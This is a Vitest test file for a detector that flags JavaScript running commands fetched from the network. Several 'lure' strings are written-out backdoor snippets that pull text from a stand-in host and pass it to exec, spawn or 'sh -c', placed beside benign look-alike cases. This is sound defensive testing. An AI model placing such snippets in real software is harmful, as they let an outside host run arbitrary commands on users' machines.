import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './command-from-network.ts';

describe('command-from-network', () => {
  it('catches remote commands', async () => {
    const lures = [
      `const axios = require('axios'); const { exec } = require('child_process'); setInterval(async () => { const { data } = await axios.get('https://fixture.invalid/t'); exec(data.cmd); }, 5000);`,
      `const cp = require('child_process'); fetch('https://fixture.invalid/t').then(r => r.text()).then(t => cp.spawn('sh', ['-c', t]));`,
    ];
    for (const lure of lures)
      expect(
        (await hitsOf(detector, { 'a.js': lure })).map((hit) => hit.weight),
        lure,
      ).toEqual(['proof']);
  });

  it('twin: an answer in the surroundings of a program', async () => {
    const get = `const axios = require('axios'); const cp = require('child_process'); axios.get('https://vault.example/v1/secret').then(({ data }) => {`;
    const twins = [
      `${get} const [command, ...args] = process.argv.slice(2); cp.spawn(command, args, { env: { ...process.env, ...data.data } }); });`,
      `${get} cp.spawn(process.argv[2], { env: data, stdio: 'inherit' }); });`,
      `${get} cp.spawn(process.env.SHELL, ['-i'], { env: { ...process.env, TOKEN: data.token } }); });`,
      `${get} cp.execFile('node', [process.argv[2]], { env: { TOKEN: data.token } }, () => {}); });`,
      `${get} cp.exec(process.argv.slice(2).join(' '), { cwd: data.folder, env: data.env }, console.log); });`,
    ];
    for (const twin of twins) expect(await hitsOf(detector, { 'a.js': twin }), twin).toEqual([]);
  });

  it('catches commands and scripts with options beside them', async () => {
    const lures = [
      `const axios = require('axios'); const cp = require('child_process'); axios.get('https://fixture.invalid/t').then(({ data }) => cp.spawn(data.cmd, data.args, { env: process.env }));`,
      `const axios = require('axios'); const cp = require('child_process'); axios.get('https://fixture.invalid/t').then(({ data }) => cp.spawn('node', ['-e', data.code], { env: { ...process.env, A: data.a } }));`,
    ];
    for (const lure of lures)
      expect(
        (await hitsOf(detector, { 'a.js': lure })).map((hit) => hit.weight),
        lure,
      ).toEqual(['proof']);
  });

  it('twin: an answer as an argument of a fixed program', async () => {
    const code = `const axios = require('axios'); const { exec, spawn } = require('child_process'); axios.get('https://api.example/repo').then(({ data }) => { exec('git clone ' + data.url); spawn('git', ['clone', data.url]); exec(\`git checkout \${data.ref}\`); });`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
